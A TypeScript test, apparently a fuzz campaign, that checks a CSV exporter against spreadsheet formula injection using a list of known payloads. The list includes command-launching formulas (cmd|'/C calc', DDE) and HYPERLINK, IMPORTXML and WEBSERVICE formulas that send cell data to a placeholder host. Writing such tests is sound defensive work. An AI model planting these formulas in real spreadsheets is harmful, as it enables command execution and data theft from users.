import Papa from 'papaparse';
import { csvFile, unprotectCell } from '../../main/kernel/table/csv-writer.ts';
import { randomFrom, type Random } from '../support/campaign/random.ts';
import { inLanes, type CampaignRow } from '../support/campaign/row.ts';

// Known ways to have a spreadsheet run something (OWASP, "CSV Injection"; PayloadsAllTheThings, "CSV Injection"), harmless here.
const payloads = [
  '=1+1',
  "=SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|'/C calc.exe'!Z0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-1',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '=HYPERLINK("https://example.invalid/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
  '=WEBSERVICE("https://example.invalid/")',
  '=DDE("cmd";"/C calc";"x")',
  '"=1+1"',
  '","=1+1',
  '";=1+1',
  '"\r\n=1+1',
  ',=1+1',
  ';=1+1',
  "'=1+1",
  "''=1+1",
  "'",
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  '=\u00001',
  '%0A=1+1',
  ' =1+1',
  '8-5',
  '(555) 010-0100',
  'Nicht = Formel',
  '',
] as const;

// What a spreadsheet takes for the beginning of a formula, in each cell as it reads it.
const runs = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

/** Hostile pieces after each other, or one alone. */
function hostileText(random: Random): string {
  const count = random.between(1, 3);
  return Array.from({ length: count }, () => random.pick(payloads)).join(random.pick(['', ',', '"', '\n', ' ', ';']));
}

/** The cells as a spreadsheet reads them that splits at commas, semicolons or tabs; it also shows what splits a cell in two. */
function cellsOf(text: string, delimiter: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter, newline: '\r\n' }).data;
}

function check(rows: readonly (readonly string[])[]): void {
  const bytes = csvFile(['A', 'B', 'C'], rows);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  if (!text.startsWith('\ufeff')) throw new Error('The file does not say that it is UTF-8.');
  const read = cellsOf(text.slice(0, -2), ',').slice(1);
  for (const row of read) for (const cell of row) if (runs.test(cell)) throw new Error(`This cell runs: ${JSON.stringify(cell)}`);
  const back = read.map((row) => row.map(unprotectCell));
  if (JSON.stringify(back) !== JSON.stringify(rows)) throw new Error(`These cells did not come back: ${JSON.stringify(rows)}`);
}

export const csvExportFormula: CampaignRow = {
  name: 'csv-export-formula',
  about: 'texts that spreadsheets run, alone and joined, in every cell of an exported table',
  full: 200,
  quick: 40,
  run: (attempts) =>
    inLanes(attempts, 1, async (attempt) => {
      const random = randomFrom(attempts.seed, attempt);
      const alone = payloads[attempt];
      const cell = (): string => (alone !== undefined ? random.pick([alone, '', 'Ann']) : hostileText(random));
      const rows = Array.from({ length: random.between(1, 20) }, () => [alone ?? hostileText(random), cell(), cell()]);
      check(rows);
    }),
};
